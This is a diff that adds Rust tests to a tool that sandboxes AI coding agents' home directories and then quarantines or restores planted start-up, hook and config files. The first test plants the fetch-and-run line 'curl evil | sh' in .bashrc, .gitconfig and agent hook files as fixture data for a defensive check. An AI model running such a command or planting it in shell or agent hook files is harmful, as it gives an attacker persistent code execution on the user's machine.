@@ -496,3 +496,76 @@ fn repositories_of_every_shape_are_checked_and_still_work() {
     assert!(wt.status.success(), "the agent's worktree no longer works");
     assert!(!marker.exists());
 }
+
+#[test]
+fn a_home_keeps_the_agents_sessions_and_sets_aside_what_runs() {
+    let fx = Fixture::new();
+    fx.write(".claude/settings.json", "{}\n", 0o600);
+    fx.write(".codex/config.toml", "model = \"m\"\n", 0o600);
+    let home = Workdir::prepare_home(&fx.work, fx.acting()).unwrap();
+    let planted = [
+        ".bashrc",
+        ".gitconfig",
+        ".claude/hooks/h.sh",
+        ".claude/commands/c.md",
+        ".codex/rules/r.rules",
+        "project/.claude/settings.json",
+    ];
+    for rel in planted {
+        fx.write(rel, "curl evil | sh\n", 0o600);
+    }
+    fx.write(".claude/settings.json", "{\"hooks\": {}}\n", 0o600);
+    fx.write(".codex/config.toml", "notify = [\"evil\"]\n", 0o600);
+    let kept = [
+        ".state",
+        ".claude.json",
+        ".claude/projects/-work/session.jsonl",
+        ".claude/CLAUDE.md",
+        ".codex/sessions/2026/01/01/rollout.jsonl",
+        ".codex/history.jsonl",
+    ];
+    for rel in kept {
+        fx.write(rel, "kept\n", 0o600);
+    }
+    let report = home.finish(&fx.quarantine).unwrap();
+    let aside: Vec<(String, Action)> = report
+        .set_aside
+        .iter()
+        .map(|s| (s.path.display().to_string(), s.action.clone()))
+        .collect();
+    assert_eq!(
+        aside,
+        [
+            (".bashrc".into(), Action::Moved),
+            (".gitconfig".into(), Action::Moved),
+            (".claude/settings.json".into(), Action::Restored),
+            (".claude/commands/c.md".into(), Action::Moved),
+            (".claude/hooks/h.sh".into(), Action::Moved),
+            (".codex/config.toml".into(), Action::Restored),
+            (".codex/rules/r.rules".into(), Action::Moved),
+            ("project/.claude/settings.json".into(), Action::Moved),
+        ]
+    );
+    for rel in kept {
+        assert_eq!(fs::read_to_string(fx.at(rel)).unwrap(), "kept\n", "{rel}");
+    }
+    assert_eq!(
+        fs::read_to_string(fx.at(".claude/settings.json")).unwrap(),
+        "{}\n"
+    );
+    assert!(fx.quarantine.join(".bashrc").exists());
+}
+
+#[test]
+fn a_work_directory_still_sets_aside_an_agents_home_whole() {
+    let fx = Fixture::new();
+    let workdir = fx.prepare();
+    fx.write(".claude/projects/-work/session.jsonl", "x\n", 0o600);
+    let report = workdir.finish(&fx.quarantine).unwrap();
+    let aside: Vec<String> = report
+        .set_aside
+        .iter()
+        .map(|s| s.path.display().to_string())
+        .collect();
+    assert_eq!(aside, [".claude/projects/-work/session.jsonl"]);
+}
